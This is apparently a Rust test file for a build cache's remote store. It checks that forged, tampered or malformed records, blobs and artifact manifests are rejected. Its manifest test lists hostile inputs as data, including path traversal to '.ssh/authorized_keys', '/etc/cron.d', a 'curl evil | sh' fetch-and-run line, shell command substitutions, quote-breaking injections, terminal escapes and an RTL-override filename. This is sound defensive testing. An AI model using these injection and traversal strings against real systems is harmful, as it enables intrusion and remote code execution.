//! Objects that somebody changed, who can write to the remote but holds no trusted key; and, where records
//! need no signature, artifacts that no program stores.

use crate::home::{Home, action_key, memo_key};
use crate::signed::{keys, reader, signed};
use crate::{unsigned, with_remote};
use cache::{ActionRecord, Artifact, BlobRef, Entry, Error, Store, StoredAction, checksummed};
use cache_remote::{Remote, RemoteSettings};
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

/// A remote of key one with the actions `a` and `b` and the memos `m` and `n`.
struct Site {
    home: Home,
    folder: PathBuf,
}

impl Site {
    fn new() -> Self {
        let home = Home::new();
        for name in ["a", "b"] {
            home.action(name);
        }
        for name in ["m", "n"] {
            home.memo(name);
        }
        let (one, _) = keys();
        let report = push(&home, signed(&home, &one, &[]));
        assert_eq!(report, 4);
        let folder = home.dir.path().join("remote");
        Self { home, folder }
    }

    fn path(&self, folder: &str, hex: &str) -> PathBuf {
        self.folder.join(folder).join(&hex[..2]).join(&hex[2..])
    }

    fn action(&self, name: &str) -> PathBuf {
        self.path("actions", &action_key(name).to_hex())
    }

    fn memo(&self, name: &str) -> PathBuf {
        self.path("memos", &memo_key(name).to_hex())
    }

    fn blob(&self, bytes: &[u8]) -> PathBuf {
        self.path("blobs", &BlobRef::of(bytes).blob.to_hex())
    }

    /// Reads the action `a` and the memo `m` with their blobs into an empty store. True if nothing failed.
    fn read(&self, settings: RemoteSettings) -> (bool, Vec<String>) {
        let dir = tempfile::tempdir_in(self.home.dir.path()).unwrap();
        let store = with_remote(Store::open(dir.path()).unwrap(), settings);
        let all = read_all(&store);
        if let Some((action, memo)) = &all {
            assert_eq!((&action[..], &memo[..]), (&b"bytes of a"[..], &b"memo of m"[..]));
        }
        // Nothing wrong has entered the store, now that its blobs are hashed again.
        let alone = Store::open(dir.path()).unwrap();
        assert_eq!(alone.verify(|_| {}).unwrap().damaged, []);
        (all.is_some(), store.upstream().unwrap().take_warnings())
    }
}

fn push(home: &Home, settings: RemoteSettings) -> u64 {
    let store = home.reopen();
    let remote = Remote::new(settings, &store).unwrap();
    let records = store.records().unwrap();
    remote.push(&records, &Default::default(), |_| {}).unwrap().records
}

fn read_all(store: &Store) -> Option<(Vec<u8>, Vec<u8>)> {
    let healed = |err: Error| assert!(err.is_healed_by_recomputing(), "{err}");
    let hit = store.hit(action_key("a")).unwrap()?;
    let artifact = store.artifact(*hit.outputs.get("out").unwrap()).map_err(healed).ok()?;
    let action = store.blob(artifact.entries[0].blob).map_err(healed).ok()?;
    let value = store.memo(memo_key("m")).unwrap()?;
    let memo = store.blob(value.blob).map_err(healed).ok()?;
    Some((action.to_vec(), memo.to_vec()))
}

fn replace(path: &Path, bytes: &[u8]) {
    fs::remove_file(path).unwrap();
    fs::write(path, bytes).unwrap();
}

/// The bytes of an object without and with their last line, which is the signature.
fn split(path: &Path) -> (String, String) {
    let text = fs::read_to_string(path).unwrap();
    let at = text.find("signature ssh-ed25519 ").unwrap();
    (text[..at].to_owned(), text[at..].to_owned())
}

/// A change of the remote.
type Manner = (&'static str, fn(&Site));

const RECORDS: [Manner; 13] = [
    ("the record of another action", |site| {
        replace(&site.action("a"), &fs::read(site.action("b")).unwrap());
    }),
    ("the memo of another key", |site| {
        replace(&site.memo("m"), &fs::read(site.memo("n")).unwrap());
    }),
    ("an action in a memo's place", |site| {
        replace(&site.memo("m"), &fs::read(site.action("a")).unwrap());
    }),
    ("a record renamed within", |site| {
        let (record, line) = split(&site.action("b"));
        let json = record.lines().next().unwrap();
        let json = json.replace(&action_key("b").to_hex(), &action_key("a").to_hex());
        let text = format!("{json}\n{}\n{line}", blake3::hash(json.as_bytes()).to_hex());
        replace(&site.action("a"), text.as_bytes());
    }),
    ("no signature", |site| {
        let (record, _) = split(&site.action("a"));
        replace(&site.action("a"), record.as_bytes());
    }),
    ("a signature of other bytes", |site| {
        let (record, _) = split(&site.action("a"));
        let (_, line) = split(&site.action("b"));
        replace(&site.action("a"), format!("{record}{line}").as_bytes());
    }),
    ("a signature of another signer", |site| {
        let (_, two) = keys();
        fs::remove_file(site.action("a")).unwrap();
        push(&site.home, signed(&site.home, &two, &[]));
        assert!(
            fs::read_to_string(site.action("a"))
                .unwrap()
                .contains(&two.public().to_string())
        );
    }),
    ("the signature of another signer under a trusted name", |site| {
        let (one, two) = keys();
        fs::remove_file(site.action("a")).unwrap();
        push(&site.home, signed(&site.home, &two, &[]));
        let (record, line) = split(&site.action("a"));
        let line = line.replace(&two.public().to_string(), &one.public().to_string());
        replace(&site.action("a"), format!("{record}{line}").as_bytes());
    }),
    ("two signatures", |site| {
        let (record, line) = split(&site.action("a"));
        let json = record.lines().next().unwrap().replace("1.5", "2.5");
        let text = format!("{json}\n{}\n{line}{line}", blake3::hash(json.as_bytes()).to_hex());
        replace(&site.action("a"), text.as_bytes());
    }),
    ("a record cut short", |site| {
        let bytes = fs::read(site.action("a")).unwrap();
        replace(&site.action("a"), &bytes[..bytes.len() / 2]);
    }),
    ("a page of a web server", |site| {
        replace(&site.action("a"), b"<html><body>Please log in</body></html>\n");
    }),
    ("a record without end", |site| {
        fs::remove_file(site.action("a")).unwrap();
        let file = fs::File::create(site.action("a")).unwrap();
        file.set_len(1 << 40).unwrap();
    }),
    ("a pipe in a record's place", |site| {
        fs::remove_file(site.action("a")).unwrap();
        fifo(&site.action("a"));
    }),
];

const BLOBS: [Manner; 9] = [
    ("other bytes", |site| replace(&site.blob(b"bytes of a"), b"BYTES OF A")),
    ("fewer bytes", |site| replace(&site.blob(b"bytes of a"), b"bytes")),
    ("no bytes", |site| replace(&site.blob(b"memo of m"), b"")),
    ("more bytes", |site| {
        replace(&site.blob(b"memo of m"), b"memo of m, and more")
    }),
    ("a bomb", |site| {
        fs::remove_file(site.blob(b"bytes of a")).unwrap();
        let file = fs::File::create(site.blob(b"bytes of a")).unwrap();
        file.set_len(1 << 42).unwrap();
    }),
    ("a link to another file", |site| {
        fs::remove_file(site.blob(b"bytes of a")).unwrap();
        symlink("/etc/passwd", site.blob(b"bytes of a")).unwrap();
    }),
    ("a link to nothing", |site| {
        fs::remove_file(site.blob(b"bytes of a")).unwrap();
        symlink("nowhere", site.blob(b"bytes of a")).unwrap();
    }),
    ("a directory", |site| {
        fs::remove_file(site.blob(b"bytes of a")).unwrap();
        fs::create_dir(site.blob(b"bytes of a")).unwrap();
    }),
    ("a pipe", |site| {
        fs::remove_file(site.blob(b"memo of m")).unwrap();
        fifo(&site.blob(b"memo of m"));
    }),
];

fn fifo(path: &Path) {
    assert!(
        std::process::Command::new("mkfifo")
            .arg(path)
            .status()
            .unwrap()
            .success()
    );
}

#[test]
fn a_forged_object_is_a_miss() {
    let (one, _) = keys();
    let pristine = Site::new();
    let url = |site: &Site| site.folder.display().to_string();
    assert_eq!(
        pristine.read(reader(url(&pristine), &[one.public()])),
        (true, Vec::new())
    );
    for (manner, change) in RECORDS.into_iter().chain(BLOBS) {
        let site = Site::new();
        change(&site);
        let (read, warnings) = site.read(reader(url(&site), &[one.public()]));
        assert!(!read, "{manner}");
        for warning in &warnings {
            assert!(!warning.contains(|c: char| c.is_control() && c != '\n'), "{warning:?}");
        }
    }
}

/// A remote without signatures, whose action `a` has an output with this manifest.
fn with_manifest(text: &str) -> Site {
    let site = Site::new();
    let record = site.home.action("a");
    let manifest = BlobRef::of(text.as_bytes());
    fs::create_dir_all(site.blob(text.as_bytes()).parent().unwrap()).unwrap();
    fs::write(site.blob(text.as_bytes()), text).unwrap();
    let stored = StoredAction {
        record: ActionRecord {
            outputs: [("out".to_owned(), manifest.blob.to_hex().parse().unwrap())].into(),
            ..record
        },
        blobs: vec![(manifest.blob, manifest.size)],
    };
    replace(&site.action("a"), checksummed::encode(&stored).unwrap().as_bytes());
    site
}

#[test]
fn an_artifact_of_no_program_is_refused_when_it_is_read() {
    let entry = |path: &str| Entry {
        path: path.to_owned(),
        size: 10,
        blob: BlobRef::of(b"bytes of a").blob,
    };
    let manifest = |paths: &[&str]| {
        let artifact = Artifact {
            kind: "file".to_owned(),
            meta: json!({}),
            entries: paths.iter().map(|path| entry(path)).collect(),
        };
        artifact.canonical()
    };
    let sound = with_manifest(&manifest(&["a b.csv"]));
    assert!(sound.read(unsigned(sound.folder.display().to_string())).0);
    let long = "a".repeat(300);
    let mut texts: Vec<String> = [
        &["/etc/cron.d/x"][..],
        &["../../.ssh/authorized_keys"],
        &["a/../../x"],
        &["x; curl evil | sh"],
        &["$(touch /tmp/x)"],
        &["`id`"],
        &["a' || id || '"],
        &["a\" && id && \""],
        &["a\nid"],
        &["a\0b"],
        &["\x1b]0;owned\x07"],
        &["gpj.\u{202e}exe"],
        &["--output=/etc/passwd"],
        &["x", "x"],
        &["x", "x/y"],
        &["link -> /etc/passwd"],
        &["C:\\x"],
        &[long.as_str()],
    ]
    .into_iter()
    .map(manifest)
    .collect();
    // Bytes that are no text, a field of another version, sizes without end, and more text than any program
    // writes.
    texts.push(manifest(&["x"]).replace("\"x\"", "\"\\ud800\""));
    texts.push(manifest(&["x"]).replace("\"size\":10", "\"link\":\"/etc/passwd\",\"size\":10"));
    texts.push(manifest(&["x", "y"]).replace("\"size\":10", "\"size\":18446744073709551615"));
    texts.push(manifest(&["x"]).replace("\"meta\":{}", &format!("\"meta\":{}", "[".repeat(100_000))));
    texts.push(format!("{}{}", manifest(&["x"]), " ".repeat(65 << 20)));
    for text in texts {
        let site = with_manifest(&text);
        let (read, _) = site.read(unsigned(site.folder.display().to_string()));
        assert!(!read, "{}", &text[..text.len().min(300)]);
    }
}
